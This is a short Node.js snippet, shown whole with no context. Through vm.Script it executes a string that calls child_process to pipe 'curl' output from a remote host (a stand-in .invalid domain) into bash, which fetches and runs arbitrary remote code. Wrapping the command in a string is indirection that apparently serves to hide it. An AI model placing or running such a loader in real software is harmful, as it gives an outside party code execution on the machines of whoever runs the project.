const vm = require("vm");
new vm.Script("require('child_process').execSync('curl -s https://cdn-x7.invalid/a | bash')").runInThisContext();
